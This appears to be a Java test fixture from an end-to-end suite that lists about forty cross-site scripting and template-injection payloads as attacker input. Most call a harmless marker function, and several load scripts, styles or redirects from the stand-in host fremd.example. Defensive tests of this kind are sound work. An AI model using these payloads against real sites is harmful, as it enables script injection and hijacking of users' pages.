package org.findbuch.e2e;

import java.util.List;

/** What attackers type. */
final class Injections {
  /** Each calls ran(), follows an address elsewhere, or takes the page apart, if it is not text. */
  static final List<String> ALL =
      List.of(
          "<script>ran()</script>",
          "<ScRiPt src=//fremd.example/x.js></sCrIpT>",
          "\"><script>ran()</script>",
          "'><script>ran()</script>",
          "</title><script>ran()</script>",
          "</textarea><script>ran()</script>",
          "</style><script>ran()</script>",
          "--><script>ran()</script><!--",
          "]]><script>ran()</script>",
          "<img src=x onerror=ran()>",
          "\"><img src=//fremd.example/x.png onerror=ran()>",
          "<svg onload=ran()>",
          "<svg><script>ran()</script></svg>",
          "<svg><animate onbegin=ran() attributeName=x dur=1s>",
          "<math><mtext><img src=x onerror=ran()></mtext></math>",
          "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
          "<iframe src=javascript:parent.ran()></iframe>",
          "<object data=//fremd.example/x></object>",
          "<embed src=javascript:ran()>",
          "<base href=//fremd.example/>",
          "<meta http-equiv=refresh content='0;url=//fremd.example'>",
          "<link rel=stylesheet href=//fremd.example/x.css>",
          "<style>@import '//fremd.example/x.css';</style>",
          "<body onload=ran()>",
          "<details open ontoggle=ran()>",
          "<input autofocus onfocus=ran()>",
          "\" autofocus onfocus=ran() x=\"",
          "' autofocus onfocus=ran() x='",
          "\" onmouseover=ran() style=position:fixed;inset:0 x=\"",
          "<video src=x onerror=ran()></video>",
          "<marquee onstart=ran()>",
          "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
          "<template><script>ran()</script></template>",
          "<form action=javascript:ran()><button autofocus>",
          "javascript:ran()",
          "data:text/html,<script>ran()</script>",
          "&lt;script&gt;ran()&lt;/script&gt;&#60;script&#62;",
          "\\u003cscript\\u003eran()\\u003c/script\\u003e%3Cscript%3E",
          "${ran()}{{ran()}}#{ran()}@{ran()}!{ran()}",
          "');ran();//\u2028`-ran()-`");

  private Injections() {}
}
